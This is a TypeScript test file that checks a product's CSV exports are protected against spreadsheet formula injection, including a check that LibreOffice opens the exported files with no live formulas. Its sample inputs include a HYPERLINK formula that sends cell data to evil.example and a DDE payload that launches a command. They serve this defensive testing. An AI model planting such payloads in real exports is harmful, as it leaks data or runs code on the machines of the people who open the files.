import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { INBOX_LISTS } from '@named-first/contract';
import fc from 'fast-check';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  campaignRow,
  campaignScanRow,
  contactRow,
  customerRow,
  leadRow,
  outboundMailRow,
} from '../../test/factories.ts';
import { openTestDatabase } from '../../test/test-database.ts';
import { openTestProduct, type TestProduct } from '../../test/test-product.ts';
import * as schema from '../db/schema/index.ts';
import { csvLines, guarded } from './csv-file.ts';

const PREFIXES = ['=', '+', '-', '@', '\t=', '\r=', '\v=', '＝', '＋', '－', '＠', '=\t'];
const FORMULAS = [
  ...PREFIXES.map((prefix) => `${prefix}SUM(1,1)`),
  ...['\n', '\r\n', '\r'].flatMap((lineEnd) => PREFIXES.map((prefix) => `two lines${lineEnd}${prefix}1+1`)),
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  '"=1+1"',
  `'=1+1`,
];
const PLAIN = ['+1 (614) 555-0148', '-12.5', 'Pipe, "Daughters" & Co', 'x@example.com', 'a = b'];

const soffice = findSoffice();

/** The path of LibreOffice, or null. */
function findSoffice(): string | null {
  const folders = [...(process.env.PATH ?? '').split(':'), '/usr/lib/libreoffice/program'];
  return folders.map((folder) => join(folder, 'soffice')).find((file) => existsSync(file)) ?? null;
}

describe('every CSV file of the product', () => {
  const texts = [...FORMULAS, ...PLAIN];
  const files = new Map<string, string>();
  let product: TestProduct;
  beforeAll(async () => {
    product = await openTestProduct(await openTestDatabase('embedded'));
    const addresses = await fill(product, texts);
    for (const [name, address] of addresses) files.set(name, await (await product.asAdmin(address)).text());
  });
  afterAll(() => product.close());

  test('contains every text that was stored, and none that starts like a formula', () => {
    expect(files.size).toBe(INBOX_LISTS.length + 3);
    for (const [name, file] of files) {
      const { data, errors } = Papa.parse<string[]>(file.trimEnd(), { delimiter: ',', newline: '\n' });
      expect(errors, name).toEqual([]);
      const cells = new Set(data.flat());
      expect(
        texts.map(guarded).filter((text) => !cells.has(text)),
        name,
      ).toEqual([]);
    }
  });

  test.skipIf(!soffice)('opens in LibreOffice without a formula (needs LibreOffice)', () => {
    const folder = join(product.folder, 'sheets');
    mkdirSync(folder);
    files.set('control', '=1+1\n');
    for (const [name, file] of files) writeFileSync(join(folder, `${name}.csv`), file);
    const profile = `-env:UserInstallation=file://${join(product.folder, 'libreoffice')}`;
    const sources = [...files.keys()].map((name) => join(folder, `${name}.csv`));
    execFileSync(soffice!, [profile, '--headless', '--convert-to', 'fods', '--outdir', folder, ...sources], {
      stdio: 'ignore',
    });
    const withFormula = [...files.keys()].filter((name) =>
      readFileSync(join(folder, `${name}.fods`), 'utf8').includes('table:formula'),
    );
    expect(withFormula).toEqual(['control']);
  });
});

/** Stores each text in every list, in each field that a visitor fills; returns the URL of each export. */
async function fill({ deps: { db } }: TestProduct, texts: string[]): Promise<[name: string, address: string][]> {
  await db.insert(schema.leads).values(
    texts.map((text, index) => ({
      ...leadRow({ email: `${index}@example.com`, emailNormalised: `${index}@example.com`, site: `${index}.example` }),
      ...{ name: text, businessName: text, phone: text, website: text, reportData: JSON.stringify({ text }) },
    })),
  );
  await db.insert(schema.contacts).values(
    texts.map((text) =>
      contactRow({
        ...{ firstName: text, lastName: text, email: text, phone: text, company: text, industry: text },
        ...{ interests: [text], message: text },
      }),
    ),
  );
  await db.insert(schema.newsletters).values(texts.map((email) => ({ email })));
  await db.insert(schema.whitepaperLeads).values(texts.map((text) => ({ email: text, fullName: text, company: text })));
  await db.insert(schema.customers).values(
    texts.map((text) =>
      customerRow({
        ...{ fullName: text, businessEmail: text, businessName: text, websiteDomain: text, planName: text },
      }),
    ),
  );
  await db
    .insert(schema.outboundMails)
    .values(texts.map((text) => outboundMailRow({ status: 'failed', recipient: text, lastError: text })));
  const [campaign] = await db
    .insert(schema.bulkCampaigns)
    .values(campaignRow({ columns: ['Business', '=1+1'], loadedAt: new Date() }))
    .returning();
  const campaignId = campaign!.id;
  await db
    .insert(schema.campaignScans)
    .values(
      texts.map((text, index) =>
        campaignScanRow({ campaignId, rowNumber: index + 2, cells: [text, text], errorMessage: text }),
      ),
    );
  await db
    .insert(schema.campaignRefusedRows)
    .values(texts.map((text, index) => ({ campaignId, rowNumber: index + 2, cells: [text, text], reason: text })));
  return [
    ['leads', '/api/admin/leads/export.csv'],
    ['results', `/api/admin/campaigns/${campaignId}/results.csv`],
    ['refused', `/api/admin/campaigns/${campaignId}/refused.csv`],
    ...INBOX_LISTS.map((list): [string, string] => [list, `/api/admin/inbox/${list}/export.csv`]),
  ];
}

describe('a cell of a CSV file', () => {
  test.each(['=1+1', '+cmd|x', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\v=1', '\x7f=1', 'a\n=1', 'a\r\n@x', '＝1+1'])(
    '%j, which a spreadsheet would run, begins with an apostrophe',
    (cell) => expect(guarded(cell)).toBe(`'${cell}`),
  );

  test.each(['+1 (614) 555-0148', '-12.5', '+4412345', 'a = b', 'x@example.com', '{"score":-1}', ''])(
    '%j stays as it is',
    (cell) => expect(guarded(cell)).toBe(cell),
  );

  test('survives any text', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 4 }), { minLength: 1 }),
        (records) => {
          const { data } = Papa.parse<string[]>(csvLines(records).replace(/\n$/, ''), {
            delimiter: ',',
            newline: '\n',
          });
          expect(data).toEqual(records.map((record) => record.map(guarded)));
        },
      ),
    );
  });
});
